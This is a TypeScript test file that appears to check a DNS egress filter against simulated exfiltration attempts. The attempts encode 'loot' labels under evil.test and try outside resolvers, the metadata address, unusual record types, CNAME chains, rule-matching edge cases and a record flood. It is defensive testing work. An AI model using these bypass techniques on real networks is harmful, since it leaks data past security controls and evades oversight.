import t from 'tap'
import { openLab } from '../lab/lab.ts'
import { whyNoLab } from '../lab/requirements.ts'
import { type Attack, type Ending, observed, raid, refused } from './bypass.ts'
import type { Deed } from './bypass-deed.ts'
import { ask, types } from './bypass-words.ts'

t.setTimeout(120_000)
const skip = whyNoLab()
const api = 'api.acme.test'
const allow = [
  `https://${api}`,
  '"https://*.wild.test"',
  '"https://*.github.test"',
  '"https://results*.blob.test"',
  'https://cname.acme.test',
  'https://big.acme.test',
]
const refusedName = /^NXDOMAIN \[\] .*tidegate: no-rule/

/** A name without a rule: refused here in block; in audit asked of the machine's own resolver, of nobody else. */
const denied = (id: string, what: string, does: (name: string) => Deed, under = 'evil.test', qtype = 'A'): Attack => ({
  id,
  what,
  does: loot => does(`${loot}.${under}`),
  block: loot =>
    refused(refusedName, { layer: 'dns', host: `${loot}.${under}`, qtype, rcode: 'NXDOMAIN', reason: 'no-rule' }),
  audit: loot => observed(/^NO|^NX/, { layer: 'dns', host: `${loot}.${under}`, qtype, reason: 'no-rule' }),
})

const resolvers: readonly Attack[] = [
  denied('D1', 'UDP to a resolver outside', name => ask(name)),
  denied('D1', 'TCP to a resolver outside', name => ask(name, types.a, 'tcp')),
  denied('D1', 'UDP to an address that is no resolver', name => ask(name, types.a, 'udp', '198.51.100.10')),
  denied('D1', 'TCP to the machine itself', name => ask(name, types.a, 'tcp', '192.0.2.10')),
  denied('D1', 'UDP to the metadata address', name => ask(name, types.a, 'udp', '169.254.169.254')),
  denied('D1', 'UDP to a virtual address', name => ask(name, types.a, 'udp', '198.18.0.1')),
  denied('D1', 'UDP to the gateway, spelled in capitals', name => ask(name.toUpperCase())),
  denied('D4', 'a name under a rule that names only its parent', name => ask(name), api),
  denied('D4', 'a reverse name', name => ask(name, types.ptr), 'in-addr.arpa', 'PTR'),
  ...(['txt', 'null', 'cname', 'mx', 'ns', 'soa', 'srv', 'aaaa', 'https'] as const).map(type =>
    denied('D4', `type ${type} of a denied name`, name => ask(name, types[type]), 'evil.test', type.toUpperCase()),
  ),
  // Answered here (RFC 8482), also in audit.
  { ...denied('D4', 'type any of a denied name', name => ask(name, types.any), 'evil.test', 'ANY'), audit: anyInAudit },
  denied('D4', 'a private type of a denied name', name => ask(name, 65_280), 'evil.test', 'TYPE65280'),
  local(
    'D4',
    'a name below localhost',
    loot => ask(`${loot}.localhost`),
    /^NOERROR.*127\.0\.0\.1/,
    loot => ({ host: `${loot}.localhost`, verdict: 'allow' }),
  ),
  {
    id: 'D4',
    what: 'a service of an allowed host: there is none, and nobody is asked',
    does: loot => ask(`_${loot}._tcp.${api}`, types.srv),
    block: loot => ({
      got: /^NOERROR \[\]/,
      line: { layer: 'dns', host: `_${loot}._tcp.${api}`, verdict: 'allow' },
      arrives: false,
    }),
    audit: loot => observed(/^NXDOMAIN/, { layer: 'dns', host: `_${loot}._tcp.${api}`, reason: 'no-rule' }),
  },
]

function anyInAudit(loot: string): Ending {
  return {
    ...observed(/^NOERROR/, { layer: 'dns', host: `${loot}.evil.test`, qtype: 'ANY', reason: 'no-rule' }),
    arrives: false,
  }
}

/** Answered here in both modes alike. */
function local(
  id: string,
  what: string,
  does: (loot: string) => Deed,
  got: RegExp,
  line: (loot: string) => Ending['line'] & object,
): Attack {
  const ending = (loot: string): Ending => ({ got, line: { layer: 'dns', ...line(loot) }, arrives: false })
  return { id, what, does, block: ending, audit: ending }
}

const payloads: readonly Attack[] = [
  ...(['txt', 'null', 'cname', 'mx', 'ns'] as const).map((type): Attack => ({
    id: 'D6',
    what: `type ${type} of a name under an allowed wildcard`,
    does: loot => ask(`${loot}.wild.test`, types[type]),
    block: loot =>
      refused(/^NOERROR \[\] /, {
        layer: 'dns',
        host: `${loot}.wild.test`,
        qtype: type.toUpperCase(),
        reason: 'dns-type',
      }),
    audit: loot =>
      observed(/^NO|^NX/, { layer: 'dns', host: `${loot}.wild.test`, qtype: type.toUpperCase(), reason: 'dns-type' }),
  })),
  local(
    'D6',
    'a flood of records of an allowed type',
    () => ask('big.acme.test', types.srv, 'tcp'),
    /^SERVFAIL/,
    () => ({ host: 'big.acme.test', qtype: 'SRV', rcode: 'SERVFAIL', error: 'UPSTREAM_DNS' }),
  ),
  {
    id: 'D9',
    what: 'an allowed name leads to a denied one, which is then asked for',
    does: loot => ({ do: 'steps', steps: [ask('cname.acme.test'), ask(`${loot}.payload.evil.test`)] }),
    block: loot =>
      refused(/^NOERROR (?!.*evil).*198\.18[^\n]*\nNXDOMAIN/, {
        layer: 'dns',
        host: `${loot}.payload.evil.test`,
        reason: 'no-rule',
      }),
    audit: loot =>
      observed(/^NOERROR (?!.*evil).*198\.18[^\n]*\nN/, {
        layer: 'dns',
        host: `${loot}.payload.evil.test`,
        reason: 'no-rule',
      }),
  },
  ...[
    ['github.test', 'the apex under a rule for its names'],
    ['xgithub.test', 'a name that only ends like the rule'],
    ['a.b.github.test', 'two labels where the rule says one'],
    ['results.blob.test.evil.test', 'the rule as the beginning of another name'],
    ['xresults1.blob.test', 'something before a partial label'],
  ].map(([name = '', what = '']): Attack => ({
    id: 'D13',
    what,
    does: () => ask(name),
    block: () => refused(refusedName, { layer: 'dns', host: name, reason: 'no-rule' }),
    audit: () => ({
      got: /^NO|^NX/,
      line: { layer: 'dns', host: name, verdict: 'observe', reason: 'no-rule' },
      arrives: false,
    }),
  })),
  local(
    'D13',
    'a name that the rule means',
    () => ask('results7.blob.test'),
    /^NOERROR .*198\.18\./,
    () => ({ host: 'results7.blob.test', verdict: 'allow' }),
  ),
]

t.test('D1, D4, D6, D9, D13: what is asked for', { skip }, async t => {
  await using lab = await openLab({})
  for (const name of ['*.wild.test', '*.github.test', '*.blob.test', 'big.acme.test']) await lab.serve(name)
  await lab.dns.set('cname.acme.test', 'CNAME', ['payload.evil.test'])
  const flood = Array.from({ length: 600 }, (_, at) => `1 1 ${at + 1} t.acme.test`)
  await lab.dns.set('big.acme.test', 'SRV', flood)
  for (const mode of ['block', 'audit'] as const) {
    await raid(t, lab, { attacks: [...resolvers, ...payloads], mode, allow })
    t.strictSame(await lab.dns.queries({ server: 'outside' }), [], `D1: no resolver outside was asked (${mode})`)
  }
})
